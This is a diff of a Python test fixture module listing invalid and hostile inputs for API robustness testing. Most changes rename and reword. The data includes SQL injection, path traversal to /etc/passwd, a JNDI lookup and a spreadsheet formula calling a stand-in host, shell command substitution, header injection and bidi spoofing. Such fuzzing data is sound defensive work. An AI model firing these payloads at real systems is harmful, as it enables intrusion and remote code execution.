@@ -1,6 +1,6 @@
-"""Bad values, by class: what bodies, queries, paths and headers must bear without a 5xx.
+"""Invalid values by class, for bodies, queries, paths and headers. No value may cause a 5xx.
 
-`JSON` holds them as JSON text, since writers refuse to write some; `TEXTS` as plain text.
+`JSON` holds JSON text, because `json.dumps` cannot write some values. `TEXTS` holds plain text.
 """
 
 from __future__ import annotations
@@ -17,7 +17,7 @@ MARKUP = (
 )
 FORMULAS = ('=HYPERLINK("http://x.example","y")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "|calc")
 TEMPLATES = ("{{7*7}}", "${jndi:ldap://x.example/a}", "%s%n%x", "{0.__class__}", "$(id)", "`id`")
-PLACES = ("../../../../etc/passwd", "file:///etc/passwd", "C:\\boot.ini", "a\r\nSet-Cookie: a=b", "\r\n\r\n")
+PATHS = ("../../../../etc/passwd", "file:///etc/passwd", "C:\\boot.ini", "a\r\nSet-Cookie: a=b", "\r\n\r\n")
 BIDI = ("\u202egnp.exe", "\u2066a\u2069", "\u200b", "\ufeff", "a\u0300" * 500, "\U0001f9d1\u200d\u2695\ufe0f")
 DIGITS = ("١٢٣", "１２３", "௧", "²", "Ⅷ", "１２：００", "２０２６-０３-０１")
 DAYS = (
@@ -93,12 +93,12 @@ JSON: dict[str, tuple[str, ...]] = {
     "SQL": _quoted(*SQL),
     "formulas": _quoted(*FORMULAS),
     "templates": _quoted(*TEMPLATES),
-    "places": _quoted(*PLACES),
+    "paths": _quoted(*PATHS),
 }
-# No member may hold these, whatever it is: 4xx always.
+# Every member refuses these with 4xx.
 NEVER = ("NUL", "lone surrogate", "duplicate members", "not JSON")
 
-# class -> texts of a query parameter, a path's part or a header
+# class -> texts for query parameters, path parts and headers
 TEXTS: dict[str, tuple[str, ...]] = {
     "wrong type": ("true", "12345", "text", "[]", "{}", "null", "", " ", ",", "1,2"),
     "over-long": ("a" * 300, "9" * 5000, "ß" * 900),
@@ -124,9 +124,9 @@ TEXTS: dict[str, tuple[str, ...]] = {
     "SQL": (*SQL, "id; --", "id ASC, (SELECT 1)", "pg_sleep(10)", "name) --", "%", "_", "\\", "%%%_"),
     "formulas": FORMULAS,
     "templates": TEMPLATES,
-    "places": PLACES,
+    "paths": PATHS,
 }
-# Names that no route has: as members of a body and as parameters of a query.
+# Unknown names for body members and query parameters.
 NAMES = (
     *("' OR 1=1 --", "id; DROP TABLE users", "__proto__", "constructor", "__class__", "a\0b", "\u202ea", ""),
     *(
